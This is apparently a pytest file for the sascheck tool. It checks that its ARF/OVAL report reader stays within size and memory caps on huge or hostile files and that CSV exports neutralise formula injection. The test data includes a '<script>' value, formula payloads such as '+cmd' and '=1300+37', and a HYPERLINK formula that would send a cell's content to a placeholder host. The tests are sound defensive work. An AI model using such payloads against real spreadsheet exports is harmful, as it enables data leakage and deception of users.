"""An ARF is untrusted (#24 item 10 reads its OVAL results): what the reader keeps is capped
whatever the file holds, and nothing in it is kept whole, so one element with a hundred
thousand children is read like any other."""

from __future__ import annotations

import csv
from pathlib import Path
from xml.sax.saxutils import escape

import pytest

from sascheck.cli import main
from sascheck.cli_common import EXIT_UNREADABLE
from sascheck.reports.arf import read_arf
from sascheck.reports.arf_oval import MAX_PER_ENTRY, MAX_SHOWN, MAX_VALUE
from sascheck.reports.matrix_csv import FORMULA_STARTS, render_csv
from sascheck.reports.model import HostView, RuleView

ARF = """<?xml version="1.0" encoding="UTF-8"?>
<arf:asset-report-collection xmlns:arf="http://scap.nist.gov/schema/asset-reporting-format/1.1">
 <arf:reports>
  <arf:report id="xccdf1"><arf:content>
   <TestResult xmlns="http://checklists.nist.gov/xccdf/1.2" id="t" start-time="2026-11-25T10:00:00">
    <rule-result idref="xccdf_org.sascheck.content_rule_read_ahead"><result>fail</result>
     <check system="http://oval.mitre.org/XMLSchema/oval-definitions-5">
      <check-content-ref href="sascheck-oval.xml" name="oval:x:def:1"/></check>
    </rule-result>
   </TestResult></arf:content></arf:report>
  <arf:report id="oval0"><arf:content>
   <oval_results xmlns="http://oval.mitre.org/XMLSchema/oval-results-5">
    <results><system>
     <definitions><definition definition_id="oval:x:def:1" result="false">
      <criteria operator="AND">{criteria}</criteria></definition></definitions>
     <tests><test test_id="oval:x:tst:1" result="false">{tested}</test></tests>
     <oval_system_characteristics xmlns="http://oval.mitre.org/XMLSchema/oval-system-characteristics-5">
      <system_info><os_name>{os_name}</os_name><os_version>9.4</os_version>
       <architecture>x86_64</architecture><primary_host_name>h</primary_host_name></system_info>
      <system_data>{items}</system_data>
     </oval_system_characteristics>
    </system></results>
   </oval_results></arf:content></arf:report>
 </arf:reports>
</arf:asset-report-collection>
"""
COUNT = 100_000
ITEM = ('<ind-sys:textfilecontent_item xmlns:ind-sys="http://oval.mitre.org/XMLSchema/'
        'oval-system-characteristics-5#independent" id="{n}">'
        '<ind-sys:filepath>/sys/block/sd{n}/queue/read_ahead_kb</ind-sys:filepath>'
        '<ind-sys:text>{text}</ind-sys:text></ind-sys:textfilecontent_item>')


@pytest.mark.stress
def test_an_arf_full_of_items_is_read_within_its_caps(tmp_path: Path):
    long_value = "&lt;script&gt;" + "9" * 10_000
    path = tmp_path / "hostile-arf.xml"
    path.write_text(ARF.format(
        criteria='<criterion test_ref="oval:x:tst:1" result="false"/>' * COUNT,
        tested="".join(f'<tested_item item_id="{n}" result="false"/>' for n in range(COUNT)),
        os_name="Red Hat Enterprise Linux" + " x" * 1000,
        items="".join(ITEM.format(n=n, text=long_value if n == 0 else "128")
                      for n in range(COUNT))))
    host = read_arf(str(path))
    items = host.items["read_ahead"]
    assert len(items) == MAX_SHOWN
    # one criterion's worth of tests kept, each test's first items, each value cut
    assert items[0].subject == "/sys/block/sd0/queue/read_ahead_kb"
    assert items[0].value.startswith("<script>999") and len(items[0].value) == MAX_VALUE
    assert len(host.system["os_name"]) == MAX_VALUE
    assert all(int(i.subject.split("/")[3][2:]) < MAX_PER_ENTRY for i in items)


@pytest.mark.stress
def test_millions_of_empty_elements_in_one_rule_result_are_not_kept(tmp_path: Path):
    """Issue 34: 5 million empty elements inside one rule-result (26 MiB) took 646 MiB while
    the rule-result was kept whole. Read in a fresh process, its peak memory stays near a
    bare reader's, and the rule's result is still read."""
    import subprocess
    import sys

    path = tmp_path / "empties-arf.xml"
    with path.open("w") as handle:
        before, after = ARF.split("<result>fail</result>")
        handle.write(before + "<result>fail</result>")
        for _ in range(50):
            handle.write("<x/>" * 100_000)
        handle.write(after.format(criteria='<criterion test_ref="oval:x:tst:1" '
                                  'result="false"/>', tested="", os_name="x", items=""))
    probe = ("import resource, sys; from sascheck.reports.arf import read_arf; "
             "host = read_arf(sys.argv[1]); print(host.results['read_ahead'], "
             "resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)")
    result, peak_kib = subprocess.run([sys.executable, "-c", probe, str(path)], check=True,
                                      capture_output=True, text=True).stdout.split()
    assert result == "fail"
    assert int(peak_kib) < 200 * 1024  # kept whole, the children alone took over 600 MiB


@pytest.mark.parametrize("rule_id", ["=1300+37", '=HYPERLINK("http://x/?"&A1,"see")',
                                     "+cmd", "@SUM(A1)", "Read_Ahead"])
def test_an_arf_rule_id_that_is_no_rule_id_is_an_error_row_never_a_csv_formula(
        tmp_path: Path, rule_id: str):
    """oscap's ARF is written on the host: a rule id is whatever follows content_rule_ in
    an idref. Written raw, Gnumeric showed '=1300+37' as 1337 and made HYPERLINK a link."""
    hostile = tmp_path / "evil.arf.xml"
    hostile.write_text(ARF.replace("content_rule_read_ahead", "content_rule_" + escape(
        rule_id, {'"': "&quot;"})).format(criteria="", tested="", os_name="x", items=""))
    plain = tmp_path / "plain.arf.xml"
    plain.write_text(ARF.format(criteria="", tested="", os_name="x", items=""))
    out = tmp_path / "matrix.csv"
    assert main(["report", "--csv", str(out), str(plain), str(hostile)]) == EXIT_UNREADABLE
    cells = [cell for row in csv.reader(out.read_text().splitlines()) for cell in row]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells), cells
    rules = {row["rule"] for row in csv.DictReader(out.read_text().splitlines())}
    assert "read_ahead" in rules and not any(rule_id in rule for rule in rules)


def test_every_csv_column_is_kept_from_running_as_a_formula():
    host = HostView(name="=1+1", source="oscap", path="x.arf.xml")
    host.rules = [RuleView("=2+2", "", "", "-3+3", actual="@4")]
    row = next(csv.DictReader(render_csv([host]).splitlines()))
    assert list(row.values()) == ["'=1+1", "'=2+2", "'-3+3", "'@4"]
